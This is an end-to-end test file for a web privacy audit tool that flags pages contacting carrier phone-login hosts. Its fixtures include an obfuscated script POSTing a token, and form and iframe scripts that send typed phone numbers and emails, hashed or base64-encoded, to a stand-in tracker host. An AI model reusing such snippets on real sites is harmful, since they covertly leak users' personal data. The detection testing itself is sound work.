/**
 * The site audit end to end, run as a user runs it: `carrier-watch audit …` (bin/carrier-watch.mjs,
 * what `npx carrier-watch` starts) in a child process, against fixture sites on loopback. Each
 * case asserts on report.json, the exit code, and report.html opened in Chromium.
 *
 * Host names reach the loopback server through --browser-arg=--host-resolver-rules. The flagged
 * hosts are real entries of the curated list (www.cmpassport.com, log.cmpassport.com,
 * enrichgw.10010.com, nisportal.10010.com); ct.test is flagged by its address (127.0.0.2) through a settings file with
 * a custom CIDR, as a user's own entry would.
 *
 * One browser at a time: the audit's Chromium runs and exits, then a second one opens the HTML
 * report, then closes (files run one at a time too: tests/e2e/vitest.config.ts).
 */
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import puppeteer, { type Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditReport, FlaggedEndpoint, PageReport } from '../../src/audit/report-types.ts';
import { CHROMIUM_FLAGS, CHROMIUM_PATH } from '../e2e/lib/chromium.ts';
import { closeAndClean, makeTempProfile, NO_PUPPETEER_SIGNAL_HANDLERS } from '../e2e/lib/internal.ts';
import { pollUntil } from '../e2e/lib/poll.ts';
import { html, image, json, script, startServer, text, type TestServer } from '../e2e/lib/server.ts';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
const BIN = join(ROOT, 'bin', 'carrier-watch.mjs');

const HOSTS: Record<string, string> = {
  localhost: '127.0.0.1',
  'site.test': '127.0.0.1',
  'frame.test': '127.0.0.1',
  'tracker.test': '127.0.0.1',
  'www.cmpassport.com': '127.0.0.1',
  'log.cmpassport.com': '127.0.0.1',
  'enrichgw.10010.com': '127.0.0.1',
  'nisportal.10010.com': '127.0.0.1',
  'nishub1.10010.com': '127.0.0.1',
  'ct.test': '127.0.0.2',
};
const RESOLVER_ARG = `--browser-arg=--host-resolver-rules=${[...Object.entries(HOSTS).map(([h, ip]) => `MAP ${h} ${ip}`), 'MAP * ~NOTFOUND'].join(', ')}`;

/** A user's settings file: the second loopback address is China Telecom's, as a custom CIDR. */
const SETTINGS = { version: 1, user: { asns: [], domains: [], allowlist: [], cidrs: [{ cidr: '127.0.0.2/32', operatorId: 'china-telecom', note: 'e2e' }] } };

let server: TestServer;
let wsServer: http.Server;
let wsPort = 0;
const wsSockets = new Set<Socket>();
const wsFrames: string[] = [];
let work: string;

// ---------------------------------------------------------------------------------------------
// Fixtures
// ---------------------------------------------------------------------------------------------

/** The login script: builds "www.cmpassport.com" at run time and POSTs to it from line 4. */
function loginScript(port: number): string {
  return String.raw`/*! login-sdk 2.3.1 | (c) vendor */
(function(w){var _0x=['\x63\x6f\x6d','pass','port','cm','www'],_p=${port};
function h(){return [_0x[4],_0x[3]+_0x[1]+_0x[2],_0x[0]].join('.')}
function s(d){return w.fetch('http://'+h()+':'+_p+'/openapi/rs/tokenValidate',{method:'POST',body:JSON.stringify(d)})}
w.setTimeout(function(){s({token:'t0k3n'})},0)})(window);
`;
}
const LOGIN_FETCH_LINE = 4;

/** A vendor SDK that names a flagged gateway it never calls (line 4). */
const SDK_SCRIPT = `// Vendor analytics SDK
var SDK_CONFIG = {
  mode: "web",
  authUrl: "https://enrichgw.10010.com/api/auth"
};
`;
const LATENT_PAGE = `<!doctype html>
<title>Latent</title>
<script src="/static/sdk.js"></script>
<script>
// fallback gateway: www.cmpassport.com (not used)
window.ready = true;
</script>
`;

/** SHA-256 in the page (crypto.subtle needs a secure context: the form page is on localhost). */
const FORM_PAGE = (port: number) => `<!doctype html><title>Sign up</title>
<iframe src="http://frame.test:${port}/signin"></iframe>
<form action="/submitted" method="get">
  <label>Mobile number <input type="tel" name="mobile" id="mobile"></label>
  <label>Your name <input type="text" name="nickname"></label>
  <button type="submit">Create account</button>
</form>
<script>
document.getElementById('mobile').addEventListener('change', async (event) => {
  const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(event.target.value));
  const hex = [...new Uint8Array(digest)].map((b) => b.toString(16).padStart(2, '0')).join('');
  navigator.sendBeacon('http://tracker.test:${port}/collect', JSON.stringify({ uid: hex }));
});
</script>`;
/** In a cross-site (out-of-process) iframe: what is typed goes out base64-encoded in a URL. */
const SIGNIN_FRAME = (port: number) => `<!doctype html><title>Sign in</title>
<input type="text" name="login" placeholder="E-mail">
<script>
document.querySelector('input').addEventListener('blur', (event) => {
  fetch('http://tracker.test:${port}/pixel?d=' + btoa(event.target.value), { mode: 'no-cors' });
});
</script>`;

function sites(s: TestServer): void {
  const port = s.port;
  s.site('site.test', {
    '/login': html(`<!doctype html><title>Log in</title>\n<form><input name="user"></form>\n<script src="/static/login.min.js"></script>`),
    '/static/login.min.js': script(loginScript(port)),
    '/latent': html(LATENT_PAGE),
    '/static/sdk.js': script(SDK_SCRIPT),
    '/clean': html(`<!doctype html><title>Clean</title><script src="/static/app.js"></script><img src="/static/logo.gif" alt="">`),
    '/static/app.js': script(`fetch('/api/config').then((r) => r.json());`),
    '/static/logo.gif': image(),
    '/api/config': json({ ok: true }),
  });
  s.site('www.cmpassport.com', { '/openapi/rs/tokenValidate': json({ resultCode: '103000' }) });
  s.site('log.cmpassport.com', { '/report': text('ok') });
  s.site('enrichgw.10010.com', { '/from-worker': text('ok') });
  s.site('nisportal.10010.com', { '/from-shared': text('ok') });
  s.site('nishub1.10010.com', { '/from-popup': text('ok') });
  s.site('ct.test', { '/from-sw': text('ok') });
  s.site('tracker.test', { '/collect': text('ok'), '/pixel': image() });
  s.site('frame.test', {
    '/inner': html(`<!doctype html><title>Widget</title><script>fetch('http://log.cmpassport.com:${port}/report', { method: 'POST', body: 'event=view' });</script>`),
    '/signin': html(SIGNIN_FRAME(port)),
  });
  s.site('localhost', {
    // A page whose other targets each contact a flagged host.
    // Its load event waits for /gate, which the server holds until every other target has made
    // its request: the audit then sees them all whatever the machine's load (it waits for a
    // quiet network only after load).
    '/targets': html(`<!doctype html><title>Targets</title>
<img src="/gate" alt="">
<iframe src="http://frame.test:${port}/inner"></iframe>
<script>
new Worker('/worker.js');
new SharedWorker('/shared.js');
window.open('/popup');
navigator.serviceWorker.register('/sw.js');
const socket = new WebSocket('ws://www.cmpassport.com:${wsPort}/socket');
socket.onopen = () => socket.send('hello from the page');
</script>`),
    '/worker.js': script(`fetch('http://enrichgw.10010.com:${port}/from-worker');`),
    '/popup': html(`<!doctype html><title>Popup</title><script>fetch('http://nishub1.10010.com:${port}/from-popup');</script>`),
    '/shared.js': script(`fetch('http://nisportal.10010.com:${port}/from-shared');`),
    '/sw.js': script(`self.addEventListener('install', (event) => event.waitUntil(fetch('http://ct.test:${port}/from-sw')));`),
    '/gate': async () => {
      const seen = () => ['/report', '/from-worker', '/from-shared', '/from-sw', '/from-popup'].every((p) => s.requests({ path: p }).length > 0) && wsFrames.length > 0;
      // Answered either way: if a target never calls, the test's assertions say which.
      await pollUntil('every target of /targets to make its request', seen, Boolean, { timeoutMs: 20_000 }).catch(() => undefined);
      return image();
    },
    '/form': html(FORM_PAGE(port)),
    '/submitted': text('submitted'),
  });
}

/** A WebSocket endpoint without a library: the RFC 6455 handshake, frames recorded (unmasked text only). */
async function startWebSocketServer(): Promise<void> {
  wsServer = http.createServer((_req, res) => res.writeHead(426).end());
  wsServer.on('upgrade', (req, socket: Socket) => {
    wsSockets.add(socket);
    socket.on('close', () => wsSockets.delete(socket));
    socket.on('error', () => undefined);
    const key = String(req.headers['sec-websocket-key'] ?? '');
    const accept = createHash('sha1').update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
    socket.on('data', (frame: Buffer) => {
      // Client frames are masked: byte 1's low 7 bits are the length (< 126 here), then 4 mask bytes.
      if (frame.length < 6 || (frame[0]! & 0x0f) !== 1) return;
      const length = frame[1]! & 0x7f;
      const mask = frame.subarray(2, 6);
      const payload = Buffer.from(frame.subarray(6, 6 + length).map((b, i) => b ^ mask[i % 4]!));
      wsFrames.push(payload.toString('utf8'));
    });
  });
  await new Promise<void>((resolve) => wsServer.listen(0, '127.0.0.1', resolve));
  wsPort = (wsServer.address() as AddressInfo).port;
}

// ---------------------------------------------------------------------------------------------
// Running the command
// ---------------------------------------------------------------------------------------------

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
  outDir: string;
  ms: number;
}

/** `carrier-watch audit …` in a child process, as from a terminal. */
function audit(args: readonly string[], options: { cwd?: string; env?: NodeJS.ProcessEnv; outDir?: string | null } = {}): Promise<Run> {
  const outDir = options.outDir === undefined ? mkdtempSync(join(work, 'out-')) : options.outDir;
  const argv = [BIN, 'audit', ...(outDir === null ? [] : ['--out', outDir]), ...args];
  const started = Date.now();
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, argv, { cwd: options.cwd ?? ROOT, env: { ...process.env, ...options.env }, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString('utf8')));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString('utf8')));
    // A hung audit fails the test with what it printed, never hangs the suite.
    const timer = setTimeout(() => child.kill('SIGTERM'), 50_000);
    child.on('error', reject);
    child.on('close', (code) => {
      clearTimeout(timer);
      resolve({ code, stdout, stderr, outDir: outDir ?? '', ms: Date.now() - started });
    });
  });
}

function reportOf(run: Run): AuditReport {
  const file = join(run.outDir, 'report.json');
  if (!existsSync(file)) throw new Error(`no report.json (exit ${run.code})\nstderr:\n${run.stderr}\nstdout:\n${run.stdout}`);
  return JSON.parse(readFileSync(file, 'utf8')) as AuditReport;
}

function endpoint(page: PageReport, host: string): FlaggedEndpoint {
  const found = page.flagged.find((e) => e.host === host);
  if (!found) throw new Error(`${host} is not among the flagged endpoints: ${page.flagged.map((e) => e.host).join(', ') || '(none)'}`);
  return found;
}

const url = (host: string, path: string) => server.url(host, path);

/** Opens report.html (file://, offline) in its own Chromium, runs `read`, closes it. */
async function withHtmlReport<T>(run: Run, read: (page: Page) => Promise<T>): Promise<T> {
  const { dir, resource } = makeTempProfile('cw-audit-html-');
  const browser = await puppeteer.launch({
    executablePath: CHROMIUM_PATH,
    headless: true,
    pipe: true,
    userDataDir: dir,
    protocolTimeout: 30_000,
    ...NO_PUPPETEER_SIGNAL_HANDLERS,
    // No network at all: the report must open offline.
    args: [...CHROMIUM_FLAGS, '--host-resolver-rules=MAP * ~NOTFOUND'],
  });
  resource.pid = browser.process()?.pid;
  try {
    const page = await browser.newPage();
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    await page.goto(pathToFileURL(join(run.outDir, 'report.html')).href, { waitUntil: 'load' });
    const result = await read(page);
    // Self-contained: nothing but the file itself (and data: URLs) was loaded.
    expect(requests.filter((u) => !u.startsWith('file:') && !u.startsWith('data:'))).toEqual([]);
    return result;
  } finally {
    await closeAndClean(browser, resource);
  }
}

/** The text of each element matching `selector` (report-html.ts's data-testid attributes are its contract). */
const textsOf = (page: Page, selector: string): Promise<string[]> =>
  page.$$eval(selector, (els) => els.map((el) => (el.textContent ?? '').replace(/\s+/g, ' ').trim()));
const attrsOf = (page: Page, selector: string, attribute: string): Promise<string[]> =>
  page.$$eval(selector, (els, a) => els.map((el) => el.getAttribute(a) ?? ''), attribute);
const endpointSelector = (host: string) => `[data-testid="endpoint"][data-host="${host}"]`;

// ---------------------------------------------------------------------------------------------

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'cw-audit-e2e-'));
  writeFileSync(join(work, 'settings.json'), JSON.stringify(SETTINGS));
  await startWebSocketServer();
  server = await startServer();
  sites(server);
});

afterAll(async () => {
  await server?.close();
  for (const socket of wsSockets) socket.destroy();
  await new Promise<void>((resolve) => (wsServer ? wsServer.close(() => resolve()) : resolve()));
  if (work) rmSync(work, { recursive: true, force: true });
});

describe('carrier-watch audit', () => {
  it('names the obfuscated login script and the line of its fetch() to www.cmpassport.com', async () => {
    const run = await audit([RESOLVER_ARG, url('site.test', '/login')]);
    expect(run.code, run.stderr).toBe(1);
    const report = reportOf(run);
    const [page] = report.pages;
    expect(page!.status).toBe('ok');
    const cmp = endpoint(page!, 'www.cmpassport.com');
    expect(cmp.operatorId).toBe('china-mobile');
    expect(cmp.matchedBy).toContain('domain');
    expect(cmp.kinds).toContain('sent-data');
    expect(cmp.tags).toContain('phone-login');
    const [top, ...parents] = cmp.initiators;
    expect(top).toMatchObject({ url: url('site.test', '/static/login.min.js'), line: LOGIN_FETCH_LINE, functionName: 's' });
    const fetchLine = loginScript(server.port).split('\n')[LOGIN_FETCH_LINE - 1]!;
    expect(top!.column).toBe(fetchLine.indexOf('fetch(') + 1);
    // The async parent: the setTimeout on line 5 that called s().
    expect(parents.some((f) => f.line === 5 && f.url === top!.url)).toBe(true);
    expect(parents.find((f) => f.asyncBoundary !== undefined)?.asyncBoundary).toBe('setTimeout');
    const post = cmp.evidence.find((r) => r.method === 'POST');
    expect(post).toMatchObject({ targetType: 'page', resourceType: 'fetch', ip: '127.0.0.1', ipSource: 'response' });
    expect(post!.bodyBytes).toBe(JSON.stringify({ token: 't0k3n' }).length);
    // The name is built at run time: nothing for the text search to find.
    expect(page!.latent).toEqual([]);
    expect(server.requests({ host: 'www.cmpassport.com', path: '/openapi/rs/tokenValidate' }).map((r) => r.method)).toEqual(['POST']);
    expect(run.stdout).toContain('www.cmpassport.com');

    await withHtmlReport(run, async (html) => {
      expect(await attrsOf(html, '[data-testid="endpoint"]', 'data-host')).toEqual(['www.cmpassport.com']);
      expect(await attrsOf(html, endpointSelector('www.cmpassport.com'), 'data-operator')).toEqual(['china-mobile']);
      const frames = await textsOf(html, `${endpointSelector('www.cmpassport.com')} [data-testid="initiator"]`);
      expect(frames[0]).toBe(`${url('site.test', '/static/login.min.js')}:${LOGIN_FETCH_LINE}:${top!.column}`);
    });
  });

  it('reports the out-of-process iframe, dedicated, shared and service workers, a WebSocket and a popup, each with its target type', async () => {
    server.clearRequests();
    wsFrames.length = 0;
    const settings = join(work, 'settings.json');
    const run = await audit([RESOLVER_ARG, '--settings', settings, url('localhost', '/targets')]);
    expect(run.code, run.stderr).toBe(1);
    const [page] = reportOf(run).pages;
    expect(page!.status).toBe('ok');
    const cases: Array<[host: string, targetType: string, resourceType: string, script: string]> = [
      ['log.cmpassport.com', 'iframe', 'fetch', url('frame.test', '/inner')],
      ['enrichgw.10010.com', 'worker', 'fetch', url('localhost', '/worker.js')],
      ['nisportal.10010.com', 'shared_worker', 'fetch', url('localhost', '/shared.js')],
      ['ct.test', 'service_worker', 'fetch', url('localhost', '/sw.js')],
      ['www.cmpassport.com', 'page', 'websocket', url('localhost', '/targets')],
      // A popup (window.open) is a page of its own: attached as it opens.
      ['nishub1.10010.com', 'page', 'fetch', url('localhost', '/popup')],
    ];
    for (const [host, targetType, resourceType, scriptUrl] of cases) {
      const e = endpoint(page!, host);
      expect(e.evidence.map((r) => [r.targetType, r.resourceType]), host).toContainEqual([targetType, resourceType]);
      expect(e.initiators[0]?.url, host).toBe(scriptUrl);
    }
    // The service worker's host is flagged by its address, through the settings file's CIDR.
    const ct = endpoint(page!, 'ct.test');
    expect(ct).toMatchObject({ operatorId: 'china-telecom', ip: '127.0.0.2' });
    expect(ct.matchedBy).toEqual(['ip']);
    // The iframe's POST and the WebSocket's frame are data sent.
    expect(endpoint(page!, 'log.cmpassport.com').kinds).toContain('sent-data');
    expect(endpoint(page!, 'www.cmpassport.com').kinds).toContain('sent-data');
    expect(page!.websockets).toBe(1);
    expect(wsFrames).toContain('hello from the page');

    await withHtmlReport(run, async (html) => {
      expect((await attrsOf(html, '[data-testid="endpoint"]', 'data-host')).sort()).toEqual(cases.map(([host]) => host).sort());
      for (const [host, targetType, , scriptUrl] of cases) {
        // Each endpoint's evidence table names the target; its stack names the script.
        const [article] = await textsOf(html, endpointSelector(host));
        expect(article, host).toContain(targetType);
        expect((await textsOf(html, `${endpointSelector(host)} [data-testid="initiator"]`))[0], host).toContain(scriptUrl);
      }
      expect(await attrsOf(html, endpointSelector('ct.test'), 'data-operator')).toEqual(['china-telecom']);
    });
  });

  it('finds a flagged domain written in a script that never calls it (latent), at its line and column', async () => {
    const run = await audit([RESOLVER_ARG, url('site.test', '/latent')]);
    expect(run.code, run.stderr).toBe(1);
    const [page] = reportOf(run).pages;
    expect(page!.status).toBe('ok');
    expect(page!.flagged).toEqual([]);
    const sdkLine = SDK_SCRIPT.split('\n')[3]!;
    expect(page!.latent).toContainEqual(
      expect.objectContaining({ scriptUrl: url('site.test', '/static/sdk.js'), line: 4, column: sdkLine.indexOf('enrichgw') + 1, operatorId: 'china-unicom', host: 'enrichgw.10010.com' }),
    );
    // An inline script: positions in the document's own lines.
    const inlineLine = LATENT_PAGE.split('\n')[4]!;
    expect(page!.latent).toContainEqual(
      expect.objectContaining({ scriptUrl: url('site.test', '/latent'), line: 5, column: inlineLine.indexOf('www.cmpassport.com') + 1, operatorId: 'china-mobile' }),
    );
    expect(server.requests({ host: 'enrichgw.10010.com', path: '/api/auth' })).toEqual([]);

    await withHtmlReport(run, async (html) => {
      const rows = await textsOf(html, '[data-testid="latent"]');
      expect(rows.some((row) => row.includes(`${url('site.test', '/static/sdk.js')}:4:${sdkLine.indexOf('enrichgw') + 1}`))).toBe(true);
      expect(rows.some((row) => row.includes(`${url('site.test', '/latent')}:5:${inlineLine.indexOf('www.cmpassport.com') + 1}`))).toBe(true);
      expect(await attrsOf(html, '[data-testid="endpoint"]', 'data-host')).toEqual([]);
    });
  });

  it('--interact: the typed phone number reaches a third party SHA-256-hashed; nothing is submitted', async () => {
    server.clearRequests();
    const run = await audit([RESOLVER_ARG, '--interact', url('localhost', '/form')]);
    expect(run.code, run.stderr).toBe(1);
    const report = reportOf(run);
    expect(report.options.interact).toBe(true);
    const [page] = report.pages;
    expect(page!.status).toBe('ok');
    expect(page!.flagged).toEqual([]);
    expect(page!.canaryLeaks).toContainEqual(expect.objectContaining({ canary: 'phone', host: 'tracker.test', encoding: 'sha256', where: 'body', flagged: false }));
    // Typed in the cross-site iframe too, through its own session.
    expect(page!.canaryLeaks).toContainEqual(expect.objectContaining({ canary: 'email', host: 'tracker.test', encoding: 'base64', where: 'url' }));
    // Never submitted: the form's action was never requested, the page never left.
    expect(server.requests({ path: '/submitted' })).toEqual([]);
    expect(server.requests().filter((r) => r.host === 'localhost' && r.path.startsWith('/form?'))).toEqual([]);
    expect(page!.finalUrl).toBe(url('localhost', '/form'));

    await withHtmlReport(run, async (html) => {
      const leaks = await html.$$eval('[data-testid="canary-leak"]', (rows) => rows.map((r) => `${r.getAttribute('data-canary')} ${r.getAttribute('data-host')} ${r.getAttribute('data-encoding')}`));
      expect(leaks).toContain('phone tracker.test sha256');
      expect(leaks).toContain('email tracker.test base64');
    });
  });

  it('a clean page exits 0, from any folder through the bin, and --json prints the report', async () => {
    const elsewhere = mkdtempSync(join(work, 'cwd-'));
    const run = await audit([RESOLVER_ARG, '--json', '--out', 'reports', url('site.test', '/clean')], { cwd: elsewhere, outDir: null });
    expect(run.code, run.stderr).toBe(0);
    run.outDir = join(elsewhere, 'reports');
    const report = reportOf(run);
    expect(JSON.parse(run.stdout)).toEqual(report);
    const [page] = report.pages;
    expect(page).toMatchObject({ status: 'ok', error: null, flagged: [], latent: [], canaryLeaks: [] });
    expect(page!.requests).toBeGreaterThanOrEqual(4);
    expect(report.summary).toMatchObject({ pages: 1, errors: 0, flaggedPages: 0 });
    expect(run.stderr).toContain(url('site.test', '/clean'));
    expect(readFileSync(join(run.outDir, 'junit.xml'), 'utf8')).toContain('<testsuite');

    await withHtmlReport(run, async (html) => {
      expect(await attrsOf(html, '[data-testid="page"]', 'data-status')).toEqual(['ok']);
      expect(await attrsOf(html, '[data-testid="endpoint"]', 'data-host')).toEqual([]);
      expect(await textsOf(html, '[data-testid="latent"], [data-testid="canary-leak"], [data-testid="page-error"]')).toEqual([]);
      expect((await textsOf(html, '[data-testid="summary"]'))[0]).toContain('0 flagged endpoints');
    });
  });

  it('an unreachable URL is an error page and exit 2', async () => {
    const run = await audit([RESOLVER_ARG, '--timeout', '15', 'http://unreachable.test/']);
    expect(run.code, run.stderr).toBe(2);
    const [page] = reportOf(run).pages;
    expect(page!.status).toBe('error');
    expect(page!.error).toContain('ERR_NAME_NOT_RESOLVED');
    expect(readFileSync(join(run.outDir, 'junit.xml'), 'utf8')).toMatch(/<(error|failure)/);

    await withHtmlReport(run, async (html) => {
      expect(await attrsOf(html, '[data-testid="page"]', 'data-status')).toEqual(['error']);
      expect((await textsOf(html, '[data-testid="page-error"]'))[0]).toContain('ERR_NAME_NOT_RESOLVED');
    });
  });

  it('a page that does not load within --timeout is an error page and exit 2', async () => {
    let release: () => void = () => undefined;
    const held = new Promise<void>((resolve) => (release = resolve));
    server.route('site.test', '/slow.gif', async () => {
      await held;
      return image();
    });
    server.route('site.test', '/hangs', html('<!doctype html><title>Never loads</title><img src="/slow.gif" alt="">'));
    try {
      const run = await audit([RESOLVER_ARG, '--timeout', '2', url('site.test', '/hangs')]);
      expect(run.code, run.stderr).toBe(2);
      const [page] = reportOf(run).pages;
      expect(page!.status).toBe('error');
      expect(page!.error).toMatch(/timed out after 2000 ms/);
      expect(run.stdout).toMatch(/could not be audited/);
    } finally {
      release();
    }
  });

  it('audits a file of URLs two at a time, in the order listed', async () => {
    // Each barrier page holds its image until both pages have asked for theirs: only
    // two pages loading at once can finish before the gate's own timeout.
    const arrived = new Set<string>();
    let overlapped = false;
    const gate = async ({ url: u }: { url: URL }) => {
      arrived.add(u.search);
      overlapped = await pollUntil('both barrier pages', () => arrived.size, (n) => n >= 2, { timeoutMs: 10_000 }).then(
        () => true,
        () => false,
      );
      return image();
    };
    server.route('site.test', '/gate', gate);
    server.route('site.test', '/barrier-a', html('<!doctype html><img src="/gate?a">'));
    server.route('site.test', '/barrier-b', html('<!doctype html><img src="/gate?b">'));
    const list = join(work, 'urls.txt');
    const urls = [url('site.test', '/barrier-a'), url('site.test', '/barrier-b'), url('site.test', '/clean'), url('site.test', '/latent')];
    writeFileSync(list, `# pages to audit\n${urls[0]}\n\n${urls.slice(1).join('\n')}\n`);
    const run = await audit([RESOLVER_ARG, '--concurrency', '2', list]);
    expect(run.code, run.stderr).toBe(1);
    const report = reportOf(run);
    expect(report.options.concurrency).toBe(2);
    expect(report.pages.map((p) => p.url)).toEqual(urls);
    expect(report.pages.map((p) => p.status)).toEqual(['ok', 'ok', 'ok', 'ok']);
    expect(overlapped).toBe(true);
    expect(report.summary).toMatchObject({ pages: 4, errors: 0, flaggedPages: 1 });
    // One progress line per page on stderr.
    for (const u of urls) expect(run.stderr).toContain(u);

    await withHtmlReport(run, async (html) => {
      expect(await attrsOf(html, '[data-testid="page"]', 'data-url')).toEqual(urls);
      expect(await attrsOf(html, '[data-testid="page"]', 'data-status')).toEqual(['ok', 'ok', 'ok', 'ok']);
      expect(await attrsOf(html, '[data-testid="latent"]', 'data-domain')).not.toEqual([]);
    });
  });

  it('a bad URL, a missing browser and an unwritable --out are clear errors (exit 2), before any browser starts', async () => {
    const bad = await audit(['ftp://example.com/file', 'not a url']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('ftp://example.com/file');
    expect(bad.stderr).toContain('only http and https');
    expect(bad.stderr).toContain('usage: carrier-watch audit');
    expect(existsSync(join(bad.outDir, 'report.json'))).toBe(false);

    const missing = await audit(['--browser', '/nonexistent/chromium', url('site.test', '/clean')]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('/nonexistent/chromium');
    expect(missing.stderr).toMatch(/not found/);

    const fromEnv = await audit([url('site.test', '/clean')], { env: { CHROME_PATH: '/nonexistent/chrome' } });
    expect(fromEnv.code).toBe(2);
    expect(fromEnv.stderr).toContain('CHROME_PATH');
    expect(fromEnv.stderr).toContain('/nonexistent/chrome');

    // A folder below a regular file cannot be created, even by root; the missing browser
    // given too is never reached: the folder is checked first.
    const file = join(work, 'a-file');
    writeFileSync(file, 'not a folder');
    const unwritable = await audit(['--browser', '/nonexistent/chromium', url('site.test', '/clean')], { outDir: join(file, 'reports') });
    expect(unwritable.code).toBe(2);
    expect(unwritable.stderr).toContain(join(file, 'reports'));
    expect(unwritable.stderr).toMatch(/cannot write/);
    expect(unwritable.stderr).not.toContain('/nonexistent/chromium');
  });
});

